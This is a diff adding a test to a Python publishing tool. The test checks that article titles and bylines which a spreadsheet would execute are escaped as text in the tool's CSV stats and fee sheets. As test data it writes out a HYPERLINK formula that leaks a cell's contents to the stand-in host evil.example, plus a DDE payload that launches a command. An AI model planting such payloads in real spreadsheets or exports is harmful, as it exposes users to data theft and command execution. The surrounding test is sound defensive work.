@@ -12,7 +12,7 @@ import yaml
 from publisher.cli import main
 from publisher.desk.stats import item_stats
 from publisher.source.model import Kind
-from tests.conftest import SAMPLE
+from tests.conftest import ROOTS, SAMPLE
 
 HAN = re.compile(r"[\u3400-\u4dbf\u4e00-\u9fff]")
 
@@ -131,6 +131,31 @@ def test_json_csv_and_fee_sheet(sample_pdf, tmp_path, capsys):
     assert rows[0][:3] == ["file", "title", "authors"] and len(rows) == 52
     # fees to the fen, as the fee sheet writes them
     assert rows[1][-1] == f"{data['items'][0]['fee']:.2f}" and rows[-1][-1] == f"{total['fee']:.2f}"
+
+
+def test_a_name_or_title_a_spreadsheet_would_run_is_written_as_text(tmp_path, capsys):
+    issue = tmp_path / "2015-10"
+    shutil.copytree(ROOTS / "good-minimal", issue)
+    with (issue / "issue.yaml").open("a", encoding="utf-8") as manifest:
+        manifest.write("fees: {per_thousand: 100}\n")
+    leak, run = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    front = yaml.safe_dump({"column": "diaocha", "title": run, "byline": leak}, allow_unicode=True)
+    (issue / "articles" / "10-good.md").write_text(f"---\n{front}---\n\n正文第一段。\n",
+                                                  encoding="utf-8")
+    second = issue / "articles" / "20-figure.md"
+    second.write_text(second.read_text(encoding="utf-8").replace(
+        "{organisation: 石嘴山市委组织部}", '{organisation: "-2+3"}'), encoding="utf-8")
+    out = tmp_path / "out"
+    assert main(["stats", str(issue), "-o", str(out), "--csv"]) == 0
+    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
+    assert [row[1:3] for row in rows[1:3]] == [[f"'{run}", f"'{leak}"],
+                                               ["第一行 第二行", "孙瑛、-2+3"]]
+    with (out / "2015-10-fees.csv").open(encoding="utf-8-sig") as f:
+        sheet = list(csv.reader(f))
+    assert [row[:2] for row in sheet[1:]] == [
+        [f"'{leak}", f"'{run}"], ["孙瑛", "第一行 第二行"], ["'-2+3", "第一行 第二行"]]
+    # Numbers stay numbers.
+    assert all(row[2].isdigit() and re.fullmatch(r"\d+\.\d\d", row[3]) for row in sheet[1:])
 
 
 def test_pdf_is_rebuilt_when_older_than_sources_and_must_match_them(tmp_path, capsys):
